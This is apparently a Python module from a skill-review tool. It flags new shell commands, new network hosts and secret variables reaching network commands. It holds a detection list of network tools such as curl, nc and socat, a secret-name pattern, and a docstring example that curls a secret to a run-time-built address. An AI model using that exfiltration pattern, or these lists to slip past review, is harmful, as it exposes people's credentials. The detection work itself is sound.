"""Shell commands and network destinations in a skill's text: what it will run, and where to.

A reviewer cares less about prose edits than about a new ``curl`` line or a new host. Shell
code is what sits in fenced shell blocks of markdown files and in shell scripts; a host counts
as "in a command" when it appears there or in any code file, which is how an exfiltration
step looks, and as "in text" when it is only a link in prose.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import PurePosixPath
from urllib.parse import urlsplit

from skillctl.parse import parse_attributes
from skillctl.review.diff import LEVELS, Item, Side, code

SHELL_LANGS = frozenset({"bash", "sh", "shell", "zsh", "ksh", "console", "shell-session", "shellsession"})
CODE_SUFFIXES = frozenset({".sh", ".bash", ".zsh", ".ksh", ".fish", ".py", ".js", ".mjs", ".cjs", ".ts", ".rb",
                           ".pl", ".php", ".ps1", ".bat", ".cmd", ".lua"})
NETWORK_PROGRAMS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp",
                              "rsync", "ftp"})
MAX_COMMANDS = 15
_URL_RE = re.compile(r"(?i)\b(?:https?|ftps?|sftp|wss?)://[^\s<>\"'`)\]}|\\]+")
_IP_RE = re.compile(r"(?<![\w.=/-])(?:\d{1,3}\.){3}\d{1,3}(?![\w.])")
_FENCE_RE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_SECRET_REF = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY"
                         r"|CREDENTIAL)[A-Za-z0-9_]*)", re.IGNORECASE)
_ASSIGN = re.compile(r"(?:^|[;&|]\s*|\bexport\s+|\blocal\s+)([A-Za-z_][A-Za-z0-9_]*)=")
_VAR_REF = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_RESERVED_SUFFIXES = (".example", ".invalid", ".test", ".localhost", "example.com", "example.org", "example.net")


def shell_lines(rel: str, text: str) -> Iterator[tuple[int, str]]:
    """(line, command) for shell code: fenced shell blocks in markdown, every line of a shell script."""
    suffix = PurePosixPath(rel).suffix.lower()
    lines = text.split("\n")
    if suffix in (".md", ".markdown", ".mdx"):
        fence: tuple[str, bool] | None = None
        for i, raw in enumerate(lines, 1):
            m = _FENCE_RE.match(raw)
            if fence is None:
                if m:
                    lang, _ = parse_attributes(m.group(2))
                    fence = (m.group(1), lang in SHELL_LANGS)
                continue
            if m and m.group(1)[0] == fence[0][0] and len(m.group(1)) >= len(fence[0]) and not m.group(2).strip():
                fence = None
            elif fence[1]:
                yield from _command(i, raw)
    elif suffix in (".sh", ".bash", ".zsh", ".ksh") or (lines and re.match(r"#!.*\b(ba|z|k|da)?sh\b", lines[0])):
        for i, raw in enumerate(lines, 1):
            yield from _command(i, raw)


def _command(line: int, raw: str) -> Iterator[tuple[int, str]]:
    text = raw.strip()
    if text.startswith("$ "):
        text = text[2:]
    text = " ".join(text.split())
    if text and not text.startswith("#") and text not in ("{", "}", "fi", "done", "esac", "then", "else", "do"):
        yield line, text


def _programs(command: str) -> set[str]:
    return {PurePosixPath(w).name for w in re.split(r"[\s|;&()`$]+", command) if w}


def compare_commands(old: Side | None, new: Side) -> list[Item]:
    before = {cmd for rel, text in (old.texts.items() if old else ()) for _, cmd in shell_lines(rel, text)}
    fresh: list[tuple[str, int, str]] = []
    seen: set[str] = set()
    for rel, text in sorted(new.texts.items()):
        for line, cmd in shell_lines(rel, text):
            if cmd not in before and cmd not in seen:
                seen.add(cmd)
                fresh.append((rel, line, cmd))
    if not fresh:
        return []
    network = [f for f in fresh if _programs(f[2]) & NETWORK_PROGRAMS]
    level = "warning" if network or old is not None else "info"
    shown = (network + [f for f in fresh if f not in network])[:MAX_COMMANDS]
    more = len(fresh) - len(shown)
    lines = [f"{code(cmd)} ({rel}:{line})" for rel, line, cmd in shown]
    message = f"{len(fresh)} new shell command line(s): " + "; ".join(lines) + (f"; and {more} more" if more else "")
    first = shown[0]
    return [Item("command-added", level, message, new.path(first[0]), first[1],
                 {"commands": [{"path": new.path(r), "line": ln, "command": c} for r, ln, c in fresh]})]


def hosts(side: Side) -> dict[str, list[tuple[str, int, str, bool]]]:
    """host -> occurrences (rel, line, url, in_command)."""
    out: dict[str, list[tuple[str, int, str, bool]]] = {}
    for rel, text in side.texts.items():
        commands = {ln for ln, _ in shell_lines(rel, text)}
        code_file = PurePosixPath(rel).suffix.lower() in CODE_SUFFIXES or text.startswith("#!")
        for i, raw in enumerate(text.split("\n"), 1):
            in_command = code_file or i in commands
            if "://" in raw:
                for m in _URL_RE.finditer(raw):
                    url = m.group(0).rstrip(".,;:!?*_")
                    try:
                        host = (urlsplit(url).hostname or "").rstrip(".")
                    except ValueError:
                        continue
                    if host:
                        out.setdefault(host, []).append((rel, i, url, in_command))
            if in_command:
                for m in _IP_RE.finditer(raw):
                    if all(int(p) <= 255 for p in m.group(0).split(".")):
                        out.setdefault(m.group(0), []).append((rel, i, m.group(0), True))
    return out


def _host_of(url: str) -> str:
    try:
        host = (urlsplit(url.rstrip(".,;:!?*_")).hostname or "").rstrip(".")
    except ValueError:
        return ""
    return host if host and "$" not in host else ""


def reserved(host: str) -> bool:
    return (host in ("localhost", "0.0.0.0", "::1") or host.startswith("127.")
            or any(host == s.lstrip(".") or host.endswith(s if s.startswith(".") else "." + s)
                   for s in _RESERVED_SUFFIXES))


def secret_sends(side: Side) -> dict[tuple[str, str], tuple[str, int]]:
    """(secret variable, command) -> where, for commands that may send a secret over the network.

    A destination assembled at run time (``u="https://"$H; curl "$u?k=$AWS_SECRET_ACCESS_KEY"``)
    names no host a reviewer could read, so what is flagged is the secret reaching a network
    command, directly or through a variable assigned from it (or from a URL fragment).
    """
    out: dict[tuple[str, str], tuple[str, int]] = {}
    for rel, text in sorted(side.texts.items()):
        tainted: dict[str, str] = {}
        for line, cmd in shell_lines(rel, text):
            secrets = [m.group(1) for m in _SECRET_REF.finditer(cmd)]
            secrets += [tainted[v] for v in (m.group(1) for m in _VAR_REF.finditer(cmd)) if v in tainted]
            for m in _ASSIGN.finditer(cmd):
                if secrets:
                    tainted[m.group(1)] = secrets[0]
            if secrets and (_programs(cmd) & NETWORK_PROGRAMS or "://" in cmd):
                out.setdefault((secrets[0], cmd), (rel, line))
    return out


def compare_hosts(old: Side | None, new: Side) -> list[Item]:
    before = hosts(old) if old else {}
    items = []
    sent_before = secret_sends(old) if old else {}
    for (secret, cmd), (rel, line) in secret_sends(new).items():
        if (secret, cmd) not in sent_before:
            literal = [h for m in _URL_RE.finditer(cmd) if (h := _host_of(m.group(0)))]
            where = f"to {code(literal[0])}" if literal else "to an address built at run time"
            items.append(Item("host-added", "danger", f"a command sends {code('$' + secret)} over the network {where}: "
                              f"{code(cmd)}", new.path(rel), line,
                              {"host": literal[0] if literal else "(built at run time)", "secret": secret,
                               "in_command": True}))
    for host, seen in sorted(hosts(new).items()):
        if host in before:
            continue
        rel, line, url, _ = next((o for o in seen if o[3]), seen[0])
        in_command = any(o[3] for o in seen)
        level = "info" if reserved(host) else "danger" if in_command else "warning"
        where = "in a command" if in_command else "in text"
        items.append(Item("host-added", level, f"new host {code(host)} {where}: {code(url)}", new.path(rel), line,
                          {"host": host, "url": url, "in_command": in_command}))
    return sorted(items, key=lambda i: LEVELS.index(i.level))
